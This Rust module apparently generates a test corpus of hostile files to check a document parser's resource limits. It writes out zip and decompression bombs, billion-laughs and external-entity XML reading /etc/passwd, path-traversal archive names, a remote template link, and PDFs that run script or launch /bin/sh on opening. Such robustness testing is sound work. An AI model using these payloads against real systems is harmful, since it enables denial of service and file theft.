//! Hostile files, each of its own kind. None may cost more than its share.

use image::ImageFormat;

use super::{deflated, docx, good, mail, open_document, paragraph, pdf, pdf_of, pdf_with, picture, stream, xlsx, zipped};

/// A hostile file.
pub struct Bomb {
    /// What kind it is.
    pub kind: String,
    /// Its file name.
    pub file_name: String,
    /// Its bytes.
    pub bytes: Vec<u8>,
}

fn bomb(kind: &str, file_name: &str, bytes: Vec<u8>) -> Bomb {
    Bomb { kind: kind.to_owned(), file_name: file_name.to_owned(), bytes }
}

/// All kinds.
pub fn all() -> Vec<Bomb> {
    let mut all = archives();
    all.extend(office());
    all.extend(pdfs());
    all.extend(pictures());
    all.extend(mails());
    all.extend(odd());
    all.extend(damaged());
    all
}

/// Those that must break a reader without walls: whoever measures finds them, or measures nothing.
pub fn greedy() -> Vec<Bomb> {
    pdfs().into_iter().filter(|bomb| bomb.kind == "pdf: content of 400 MB").collect()
}

fn zeros(megabytes: usize) -> Vec<u8> {
    vec![0; megabytes << 20]
}

fn archives() -> Vec<Bomb> {
    let flat = zipped(&[("zeros.bin", &zeros(200))]);
    let many: Vec<(String, Vec<u8>)> = (0..30).map(|n| (format!("{n}.txt"), vec![b'a'; 10 << 20])).collect();
    let many: Vec<(&str, &[u8])> = many.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
    let names: Vec<String> = (0..25_000).map(|n| format!("{n}.txt")).collect();
    let crowd: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"a"[..])).collect();
    let mut nested = zipped(&[("a.txt", b"deep")]);
    for depth in 0..40 {
        nested = zipped(&[(format!("{depth}.zip").as_str(), &nested)]);
    }
    let mut wide = zipped(&[("zeros.bin", &zeros(60))]);
    for _ in 0..3 {
        let copies: Vec<(String, Vec<u8>)> = (0..10).map(|n| (format!("{n}.zip"), wide.clone())).collect();
        let copies: Vec<(&str, &[u8])> = copies.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())).collect();
        wide = zipped(&copies);
    }
    let slip = zipped(&[
        ("../../../etc/passwd", b"root"),
        ("/etc/shadow", b"root"),
        ("C:\\Windows\\win.ini", b"x"),
        ("..\\..\\boot.ini", b"x"),
    ]);
    let mut lying = zipped(&[("a.txt", b"short")]);
    let central = lying.windows(4).position(|four| four == b"PK\x01\x02").unwrap_or(0);
    lying[central + 24..central + 28].copy_from_slice(&[0xff, 0xff, 0xff, 0x7f]);
    let mut counting = zipped(&[("a.txt", b"short")]);
    let end = counting.len() - 22;
    counting[end + 8..end + 12].copy_from_slice(&[0xff; 4]);
    let mut comment = zipped(&[("a.txt", b"short")]);
    comment.extend(vec![b'P'; 70_000]);
    vec![
        bomb("zip: one member of 200 MB", "a.zip", flat),
        bomb("zip: many members, 300 MB in all", "a.zip", zipped(&many)),
        bomb("zip: 25,000 members", "a.zip", zipped(&crowd)),
        bomb("zip: archives in archives, 40 deep", "a.zip", nested),
        bomb("zip: ten archives in each of ten", "a.zip", wide),
        bomb("zip: names that lead elsewhere", "a.zip", slip),
        bomb("zip: members that overlap", "a.zip", overlapping(2_000)),
        bomb("zip: a size that is a lie", "a.zip", lying),
        bomb("zip: a count that is a lie", "a.zip", counting),
        bomb("zip: a long tail", "a.zip", comment),
        bomb("zip: nothing in it", "a.zip", zipped(&[])),
        bomb("zip: only its end", "a.zip", b"PK\x05\x06".iter().chain(&[0; 18]).copied().collect()),
        bomb("zip: a name of 60,000 letters", "a.zip", zipped(&[("a".repeat(60_000).as_str(), b"x")])),
        bomb("zip: the same name twice over", "a.zip", overlapping(2)),
    ]
}

/// Many entries of the list lead to the same bytes, which unpack to 20 MB each time.
fn overlapping(count: u32) -> Vec<u8> {
    let body = zipped(&[("a.bin", &zeros(20))]);
    let central = body.windows(4).rposition(|four| four == b"PK\x01\x02").unwrap_or(0);
    let end = body.len() - 22;
    let entry = &body[central..end];
    let mut bytes = body[..central].to_vec();
    for number in 0..count {
        let mut own = entry.to_vec();
        let name = format!("{number:05}");
        own[46..51].copy_from_slice(name.as_bytes());
        bytes.extend(own);
    }
    let size = u32::try_from(entry.len()).unwrap_or(0) * count;
    let short = u16::try_from(count).unwrap_or(u16::MAX).to_le_bytes();
    bytes.extend(b"PK\x05\x06\0\0\0\0");
    bytes.extend(short.iter().chain(&short));
    bytes.extend(size.to_le_bytes());
    bytes.extend(u32::try_from(central).unwrap_or(0).to_le_bytes());
    bytes.extend([0, 0]);
    bytes
}

fn office() -> Vec<Bomb> {
    let laughs = {
        let mut entities = "<!ENTITY a0 \"ha\">".to_owned();
        for n in 1..30 {
            let last = n - 1;
            entities += &format!("<!ENTITY a{n} \"&a{last};&a{last};&a{last};&a{last};&a{last};&a{last};&a{last};&a{last};\">");
        }
        format!("<?xml version=\"1.0\"?><!DOCTYPE d [{entities}]><d><p><r><t>&a29;</t></r></p></d>")
    };
    let outside = "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d><p><r><t>&x;</t></r></p></d>";
    let deep = format!("<d>{}{}</d>", "<p>".repeat(200_000), "</p>".repeat(200_000));
    let attributes: String = (0..200_000).map(|n| format!(" a{n}=\"x\"")).collect();
    let relations = b"<Relationships><Relationship Id=\"r1\" TargetMode=\"External\" Target=\"http://192.0.2.1/x.dotm\"/></Relationships>";
    let word = |document: &str| zipped(&[("word/document.xml", document.as_bytes())]);
    let claims = "<dimension ref=\"A1:XFD1048576\"/><sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row>\
                  <row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row></sheetData>";
    let columns = "<cols><col min=\"1\" max=\"4294967295\" hidden=\"1\"/></cols><sheetData/>";
    let rows: String = (1..200_000).map(|n| format!("<row r=\"{n}\" hidden=\"1\"><c r=\"A{n}\"><v>1</v></c></row>")).collect();
    let strings = format!("<sst>{}</sst>", "<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>".repeat(3_000_000));
    let one = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>4294967295</v></c></row></sheetData>";
    let repeated = "<table:table table:name=\"x\"><table:table-row table:number-rows-repeated=\"1048576\">\
                    <table:table-cell table:number-columns-repeated=\"16384\"><text:p>ha</text:p></table:table-cell>\
                    </table:table-row></table:table>";
    let spaces = format!("<text:p>{}</text:p>", "<text:s text:c=\"4294967295\"/>".repeat(50_000));
    vec![
        bomb("docx: entities of entities", "a.docx", word(&laughs)),
        bomb("docx: an entity from outside", "a.docx", word(outside)),
        bomb("docx: elements 200,000 deep", "a.docx", word(&deep)),
        bomb("docx: 200,000 attributes", "a.docx", word(&format!("<d><p{attributes}/></d>"))),
        bomb("docx: 100 MB of text", "a.docx", docx(&paragraph(&"ha ".repeat(33 << 20)), &[])),
        bomb("docx: a million runs", "a.docx", docx(&"<w:p><w:r><w:t>a</w:t></w:r></w:p>".repeat(1_000_000), &[])),
        bomb("docx: links to outside", "a.docx", docx(&paragraph("x"), &[("word/_rels/document.xml.rels", relations)])),
        bomb("docx: a macro", "a.docm", docx(&paragraph("x"), &[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])),
        bomb("docx: a picture that is a bomb", "a.docx", docx(&paragraph("x"), &[("word/media/image1.png", &png_of(60_000, 60_000))])),
        bomb("docx: ends that do not belong", "a.docx", word("</w:p></w:r></w:tc></w:ins><w:p>x")),
        bomb("docx: not XML", "a.docx", word("\u{0}\u{1}<<<>>>&&&;;;")),
        bomb("docx: sixteen bits, cut in the middle", "a.docx", zipped(&[("word/document.xml", b"\xff\xfe<\0w")])),
        bomb("docx: no main part", "a.docx", zipped(&[("word/document.xml/x", b"x"), ("[Content_Types].xml", b"wordprocessingml.document.main")])),
        bomb("xlsx: billions of cells claimed", "a.xlsx", xlsx(&[("x", "visible", claims)], &[])),
        bomb("xlsx: billions of columns hidden", "a.xlsx", xlsx(&[("x", "visible", columns)], &[])),
        bomb("xlsx: 200,000 rows hidden", "a.xlsx", xlsx(&[("x", "visible", &format!("<sheetData>{rows}</sheetData>"))], &[])),
        bomb("xlsx: shared strings of 150 MB", "a.xlsx", xlsx(&[("x", "visible", one)], &[("xl/sharedStrings.xml", strings.as_bytes())])),
        bomb("xlsx: a string that is not there", "a.xlsx", xlsx(&[("x", "visible", one)], &[])),
        bomb("xlsx: 5,000 sheets", "a.xlsx", xlsx(&vec![("x", "visible", "<sheetData/>"); 5_000], &[])),
        bomb("xlsx: entities of entities", "a.xlsx", zipped(&[("xl/workbook.xml", laughs.as_bytes())])),
        bomb("ods: a cell repeated 17 billion times", "a.ods", open_document("spreadsheet", "", repeated, &[])),
        bomb("odt: spaces without end", "a.odt", open_document("text", "", &spaces, &[])),
        bomb("odt: entities of entities", "a.odt", zipped(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", laughs.as_bytes())])),
        bomb("odt: elements 200,000 deep", "a.odt", zipped(&[("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", deep.as_bytes())])),
    ]
}

fn pdfs() -> Vec<Bomb> {
    let page = |entries: &str| format!("<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{entries}>>").into_bytes();
    let root = b"<</Type/Catalog/Pages 2 0 R>>".to_vec();
    let pages = b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec();
    let image = |entries: &str, body: &[u8]| {
        let object = stream(&format!("/Type/XObject/Subtype/Image{entries}"), body);
        pdf_with("500 0 0 700 20 20 cm /Im Do", "", "", &[object])
    };
    let flate = |content: &[u8]| {
        pdf_of(&[root.clone(), pages.clone(), page("/Contents 4 0 R"), stream("/Filter/FlateDecode", &deflated(content))])
    };
    let chain = |times: usize| {
        let mut body = zeros(40);
        for _ in 0..times {
            body = deflated(&body);
        }
        let filters = "/FlateDecode".repeat(times);
        pdf_of(&[root.clone(), pages.clone(), page("/Contents 4 0 R"), stream(&format!("/Filter[{filters}]"), &body)])
    };
    let form_loop = stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Im 6 0 R>>>>", b"/Im Do /Im Do");
    let forms: Vec<Vec<u8>> = (0..30)
        .map(|n| {
            let next = 7 + n;
            let entries = format!("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</Im {next} 0 R>>>>");
            stream(&entries, &b"/Im Do ".repeat(10))
        })
        .collect();
    let tiling = stream(
        "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<<>>",
        b"0 0 1 1 re f",
    );
    let letters = format!("BT /F1 12 Tf {} ET", "(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa) Tj ".repeat(100_000));
    let huge_xref = format!("%PDF-1.4\nxref\n0 4294967295\n{}", "0000000000 00000 n \n".repeat(100));
    let prev = "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 2/Prev 53>>\nstartxref\n53\n%%EOF";
    let object_stream = stream("/Type/ObjStm/N 1000000/First 10/Extends 4 0 R", b"4 0 4 0 4 0");
    let xref_stream = stream("/Type/XRef/Size 2000000000/W[8 8 8]/Index[0 2000000000]/Root 1 0 R", &[1; 64]);
    let type4 = format!("{}{}", "{".repeat(100_000), "}".repeat(100_000));
    let function = stream("/FunctionType 4/Domain[0 1]/Range[0 1]", type4.as_bytes());
    let sampled = stream("/FunctionType 0/Domain[0 1 0 1 0 1 0 1]/Range[0 1]/Size[9999 9999 9999 9999]/BitsPerSample 32", b"x");
    let shading = b"<</PatternType 2/Shading<</ShadingType 1/ColorSpace/DeviceGray/Function 7 0 R>>>>".to_vec();
    let shaded = |function: Vec<u8>| {
        pdf_with("/Pattern cs /P scn 0 0 595 842 re f", "", "/Resources<</Pattern<</P 6 0 R>>>>", &[shading.clone(), function])
    };
    let kids: String = (0..200_000).map(|_| "3 0 R ").collect();
    vec![
        bomb("pdf: pages that hold themselves", "a.pdf", pdf_of(&[root.clone(), b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>".to_vec()])),
        bomb("pdf: pages that hold each other", "a.pdf", pdf_of(&[root.clone(), b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(), b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 1>>".to_vec()])),
        bomb("pdf: 200,000 pages that are one", "a.pdf", pdf_of(&[root.clone(), format!("<</Type/Pages/Kids[{kids}]/Count 200000>>").into_bytes(), page("")])),
        bomb("pdf: a table that leads to itself", "a.pdf", prev.as_bytes().to_vec()),
        bomb("pdf: a table of billions", "a.pdf", huge_xref.into_bytes()),
        bomb("pdf: a stream of places of billions", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page(""), xref_stream])),
        bomb("pdf: objects in a stream in itself", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page("/Contents 4 0 R"), object_stream])),
        bomb("pdf: content of 400 MB", "a.pdf", flate(&vec![b' '; 400 << 20])),
        bomb("pdf: a million operators", "a.pdf", flate(&b"0 0 1 1 re f ".repeat(1_000_000))),
        bomb("pdf: a million states saved", "a.pdf", flate(&b"q ".repeat(1_000_000))),
        bomb("pdf: packed nine times over", "a.pdf", chain(9)),
        bomb("pdf: filters without end", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page("/Contents 4 0 R"), stream(&format!("/Filter[{}]", "/ASCIIHexDecode".repeat(5_000)), b"00")])),
        bomb("pdf: a length that leads to itself", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page("/Contents 4 0 R"), b"<</Length 4 0 R>>\nstream\nx\nendstream".to_vec()])),
        bomb("pdf: a reference to itself", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page("/Contents 4 0 R"), b"4 0 R".to_vec()])),
        bomb("pdf: dictionaries 100,000 deep", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page(&format!("/X{}{}", "<</X".repeat(100_000), ">>".repeat(100_000)))])),
        bomb("pdf: lists 100,000 deep", "a.pdf", pdf_of(&[root.clone(), pages.clone(), page(&format!("/X{}{}", "[".repeat(100_000), "]".repeat(100_000)))])),
        bomb("pdf: lists in the content, 1,000,000 deep", "a.pdf", flate(&vec![b'['; 1_000_000])),
        bomb("pdf: a page of a light year", "a.pdf", pdf_of(&[root.clone(), pages.clone(), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 1e30]>>".to_vec()])),
        bomb("pdf: a page of nothing", "a.pdf", pdf_of(&[root.clone(), pages.clone(), b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 0 0]>>".to_vec()])),
        bomb("pdf: a page turned inside out", "a.pdf", pdf_of(&[root.clone(), pages.clone(), b"<</Type/Page/Parent 2 0 R/MediaBox[600 900 -600 -900]/Rotate 91/UserUnit 1e9>>".to_vec()])),
        bomb("pdf: a form in itself", "a.pdf", pdf_with("/Im Do", "", "", &[form_loop])),
        bomb("pdf: ten forms in each of ten", "a.pdf", pdf_with("/Im Do", "", "", &forms)),
        bomb("pdf: tiles of nothing", "a.pdf", pdf_with("/Pattern cs /P scn 0 0 595 842 re f", "", "/Resources<</Pattern<</P 6 0 R>>>>", &[tiling])),
        bomb("pdf: 4,000,000 letters on a page", "a.pdf", flate_page(&letters)),
        bomb("pdf: an image of billions of pixels", "a.pdf", image("/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", &deflated(&zeros(50)))),
        bomb("pdf: an image packed to 300 MB", "a.pdf", image("/Width 10000/Height 10000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode", &deflated(&zeros(300)))),
        bomb("pdf: JBIG2 of noise", "a.pdf", image("/Width 5000/Height 5000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode", &noise(20_000))),
        bomb("pdf: JPEG 2000 of noise", "a.pdf", image("/Width 5000/Height 5000/Filter/JPXDecode", &[&b"\xff\x4f\xff\x51"[..], &noise(20_000)].concat())),
        bomb("pdf: fax of noise", "a.pdf", image("/Width 20000/Height 20000/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 2000000000/Rows 2000000000>>", &noise(20_000))),
        bomb("pdf: JPEG of noise", "a.pdf", image("/Width 5000/Height 5000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/DCTDecode", &[&b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03"[..], &noise(20_000)].concat())),
        bomb("pdf: LZW of noise", "a.pdf", image("/Width 5000/Height 5000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/LZWDecode", &noise(20_000))),
        bomb("pdf: runs of 128 over and over", "a.pdf", image("/Width 9999/Height 9999/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/RunLengthDecode", &[129, 0].repeat(500_000))),
        bomb("pdf: a predictor of billions", "a.pdf", image("/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2000000000/Colors 2000000000>>", &deflated(&zeros(1)))),
        bomb("pdf: a function 100,000 deep", "a.pdf", shaded(function)),
        bomb("pdf: a function with 10^16 samples", "a.pdf", shaded(sampled)),
        bomb("pdf: a script when it opens", "a.pdf", pdf_with("", "/OpenAction<</S/JavaScript/JS(app.alert(1))>>", "", &[])),
        bomb("pdf: a program when it opens", "a.pdf", pdf_with("", "/OpenAction<</S/Launch/F(/bin/sh)>>", "", &[])),
        bomb("pdf: a font of noise", "a.pdf", font_of_noise()),
        bomb("pdf: locked by nobody", "a.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt<</Filter/Standard/V 99>>>>\n%%EOF".to_vec()),
        bomb("pdf: only its first line", "a.pdf", b"%PDF-1.7".to_vec()),
        bomb("pdf: 2,000,000 ends", "a.pdf", [b"%PDF-1.7\n".to_vec(), b"%%EOF\n".repeat(300_000)].concat()),
        bomb("pdf: 300,000 objects of the same number", "a.pdf", [b"%PDF-1.7\n".to_vec(), b"1 0 obj<<>>endobj\n".repeat(300_000)].concat()),
    ]
}

fn flate_page(content: &str) -> Vec<u8> {
    let mut objects = vec![b"<</Type/Catalog/Pages 2 0 R>>".to_vec(), b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec()];
    objects.push(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>".to_vec());
    objects.push(stream("/Filter/FlateDecode", &deflated(content.as_bytes())));
    objects.push(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>".to_vec());
    pdf_of(&objects)
}

fn font_of_noise() -> Vec<u8> {
    let objects = [
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>".to_vec(),
        stream("", b"BT /F1 12 Tf 72 700 Td (abcdefgh) Tj ET"),
        b"<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor 6 0 R>>".to_vec(),
        b"<</Type/FontDescriptor/FontName/X/FontFile2 7 0 R>>".to_vec(),
        stream("", &[&b"\0\x01\0\0\xff\xff\0\0\0\0\0\0"[..], &noise(50_000)].concat()),
    ];
    pdf_of(&objects)
}

/// Bytes without order, the same each time.
fn noise(length: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_u32;
    std::iter::repeat_with(|| {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        (state >> 24) as u8
    })
    .take(length)
    .collect()
}

/// A PNG that claims so many pixels.
fn png_of(width: u32, height: u32) -> Vec<u8> {
    let mut png = picture(ImageFormat::Png);
    png[16..20].copy_from_slice(&width.to_be_bytes());
    png[20..24].copy_from_slice(&height.to_be_bytes());
    let sum = flate2::Crc::new();
    let mut sum = sum;
    sum.update(&png[12..29]);
    png[29..33].copy_from_slice(&sum.sum().to_be_bytes());
    png
}

/// A real PNG of so many black pixels.
fn black_png(width: u32, height: u32) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |name: &[u8], body: &[u8]| {
        png.extend(u32::try_from(body.len()).unwrap_or(0).to_be_bytes());
        let mut sum = flate2::Crc::new();
        sum.update(name);
        sum.update(body);
        png.extend(name);
        png.extend(body);
        png.extend(sum.sum().to_be_bytes());
    };
    let head = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[8, 0, 0, 0, 0]].concat();
    chunk(b"IHDR", &head);
    chunk(b"IDAT", &deflated(&vec![0; (width as usize + 1) * height as usize]));
    chunk(b"IEND", b"");
    png
}

fn pictures() -> Vec<Bomb> {
    let tiff = |directory: &[u8]| [&b"II*\0\x08\0\0\0"[..], directory].concat();
    let entry = |tag: u16, kind: u16, count: u32, value: u32| {
        [&tag.to_le_bytes()[..], &kind.to_le_bytes(), &count.to_le_bytes(), &value.to_le_bytes()].concat()
    };
    let looped = tiff(&[&[1, 0][..], &entry(256, 3, 1, 10), &8u32.to_le_bytes()].concat());
    let wide = tiff(
        &[&[3, 0][..], &entry(256, 4, 1, u32::MAX), &entry(257, 4, 1, u32::MAX), &entry(273, 4, u32::MAX, 8), &[0; 4]].concat(),
    );
    let mut jpeg = picture(ImageFormat::Jpeg);
    if let Some(at) = jpeg.windows(2).position(|two| two == [0xff, 0xc0]) {
        jpeg[at + 5..at + 9].fill(0xff);
    }
    let mut gif = picture(ImageFormat::Gif);
    gif[6..10].fill(0xff);
    let mut bmp = picture(ImageFormat::Bmp);
    bmp[18..26].copy_from_slice(&[0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff, 0x7f]);
    let mut exif = b"\xff\xd8\xff\xe1\x00\x30Exif\0\0II*\0\x08\0\0\0\x01\0".to_vec();
    exif.extend(entry(0x8769, 4, 1, 8));
    exif.extend(8u32.to_le_bytes());
    exif.extend(&picture(ImageFormat::Jpeg)[2..]);
    vec![
        bomb("png: billions of pixels claimed", "a.png", png_of(2_000_000_000, 2_000_000_000)),
        bomb("png: 3.6 billion pixels claimed", "a.png", png_of(60_000, 60_000)),
        bomb("png: 90 million pixels that are there", "a.png", black_png(10_000, 9_000)),
        bomb("png: one pixel wide, a hundred million high", "a.png", png_of(1, 100_000_000)),
        bomb("jpeg: billions of pixels claimed", "a.jpg", jpeg),
        bomb("jpeg: camera data that lead to themselves", "a.jpg", exif),
        bomb("gif: billions of pixels claimed", "a.gif", gif),
        bomb("bmp: billions of pixels claimed", "a.bmp", bmp),
        bomb("tiff: directories in a circle", "a.tif", looped),
        bomb("tiff: billions of pixels and strips claimed", "a.tif", wide),
        bomb("tiff: 65,535 entries of noise", "a.tif", tiff(&[&[0xff, 0xff][..], &noise(900_000)].concat())),
        bomb("webp: noise", "a.webp", [&b"RIFF\xff\xff\xff\x7fWEBPVP8L"[..], &noise(50_000)].concat()),
        bomb("heic: noise", "a.heic", [&b"\0\0\0\x18ftypheic\0\0\0\0"[..], &noise(50_000)].concat()),
        bomb("svg: a script", "a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".to_vec()),
    ]
}

fn mails() -> Vec<Bomb> {
    let head = "From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\n";
    let mut nested = String::new();
    for n in 0..5_000 {
        nested += &format!("Content-Type: multipart/mixed; boundary=b{n}\r\n\r\n--b{n}\r\n");
    }
    let letters = format!("{head}{}\r\nx", "Content-Type: message/rfc822\r\n\r\nFrom: a@example.org\r\n".repeat(20_000));
    let parts = "--b\r\nContent-Disposition: attachment; filename=a.txt\r\n\r\nx\r\n".repeat(100_000);
    let words = "=?utf-8?b?YWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWE=?= ".repeat(100_000);
    let mailbox = format!("From a@example.org x\n{head}\nhi\n\n").repeat(20_000);
    vec![
        bomb("mail: parts 5,000 deep", "a.eml", format!("{head}{nested}").into_bytes()),
        bomb("mail: letters in letters", "a.eml", letters.into_bytes()),
        bomb("mail: 100,000 attachments", "a.eml", format!("{head}Content-Type: multipart/mixed; boundary=b\r\n\r\n{parts}").into_bytes()),
        bomb("mail: 300,000 headers", "a.eml", format!("{head}{}\r\nx", "X-A: b\r\n".repeat(300_000)).into_bytes()),
        bomb("mail: a header of 20 MB", "a.eml", format!("{head}X-A: {}\r\n\r\nx", "a".repeat(20 << 20)).into_bytes()),
        bomb("mail: 100,000 coded words", "a.eml", format!("{head}Cc: {words}\r\n\r\nx").into_bytes()),
        bomb("mail: 500,000 people", "a.eml", format!("{head}Cc: {}\r\n\r\nx", "a@example.org, ".repeat(500_000)).into_bytes()),
        bomb("mail: a web page 300,000 deep", "a.eml", format!("{head}Content-Type: text/html\r\n\r\n{}", "<div><table><tr><td>".repeat(300_000)).into_bytes()),
        bomb("mail: borders without end", "a.eml", format!("{head}Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n{}", "--\r\n".repeat(500_000)).into_bytes()),
        bomb("mailbox: 20,000 letters", "a.mbox", mailbox.into_bytes()),
        bomb("mailbox: only first lines", "a.mbox", b"From a\n\nFrom b\n\n".repeat(200_000)),
    ]
}

fn odd() -> Vec<Bomb> {
    let archive = zipped(&[("a.txt", b"inner")]);
    let mut polyglot = pdf("");
    polyglot.extend(&archive);
    let script = [&b"GIF89a/*"[..], &[0; 10], b"*/=1;alert(1)//"].concat();
    vec![
        bomb("odd: nothing", "a.pdf", Vec::new()),
        bomb("odd: one byte", "a.txt", vec![0]),
        bomb("odd: 10 MB of noughts", "a.txt", zeros(10)),
        bomb("odd: 10 MB of noise", "a.doc", noise(10 << 20)),
        bomb("odd: a line of 30 MB", "a.csv", vec![b'a'; 30 << 20]),
        bomb("odd: a line of ten million cells", "a.csv", vec![b','; 10 << 20]),
        bomb("odd: 20 million lines", "a.txt", vec![b'\n'; 20 << 20]),
        bomb("odd: quotation marks that never close", "a.csv", vec![b'"'; 5 << 20]),
        bomb("odd: PDF and archive in one", "a.pdf", polyglot),
        bomb("odd: picture and script in one", "a.gif", script),
        bomb("odd: a web page that says it is a letter", "a.eml", b"<html><script>alert(1)</script></html>".to_vec()),
        bomb("odd: a program that says it is a PDF", "a.pdf", [&b"\x7fELF\x02\x01\x01"[..], &noise(5_000)].concat()),
        bomb("odd: a PDF that says it is a picture", "a.png", pdf("")),
        bomb("odd: an old Word document", "a.doc", [&b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"[..], &noise(5_000)].concat()),
        bomb("odd: a name of 100,000 letters", &"a".repeat(100_000), mail()),
        bomb("odd: a name that leads elsewhere", "../../../../etc/passwd\0.pdf", pdf("")),
        bomb("odd: text that turns round", "a.txt", "\u{202e}\u{2066}\u{200b}".repeat(1_000_000).into_bytes()),
        bomb("odd: marks over one letter", "a.txt", format!("a{}", "\u{301}".repeat(3_000_000)).into_bytes()),
        bomb("odd: half of sixteen bits", "a.txt", [&b"\xff\xfe"[..], &[0xd8; 999_999]].concat()),
        bomb("odd: 70 MB", "a.txt", vec![b'a'; 70 << 20]),
    ]
}

/// Every sort of good paper, broken in every usual way.
fn damaged() -> Vec<Bomb> {
    let mut all = Vec::new();
    for (name, bytes) in good() {
        let mut flipped = bytes.clone();
        for at in (0..flipped.len()).step_by(37) {
            flipped[at] ^= 1 << (at % 8);
        }
        let mut headed = bytes.clone();
        let end = headed.len();
        for at in (16.min(end)..end).step_by(3) {
            headed[at] = 0xff;
        }
        all.push(bomb(&format!("damaged: half of {name}"), name, bytes[..bytes.len() / 2].to_vec()));
        all.push(bomb(&format!("damaged: bits turned in {name}"), name, flipped));
        all.push(bomb(&format!("damaged: bytes filled in {name}"), name, headed));
        all.push(bomb(&format!("damaged: {name} twice"), name, bytes.repeat(2)));
        all.push(bomb(&format!("damaged: {name} with a wrong ending"), "a.exe", bytes));
    }
    all
}
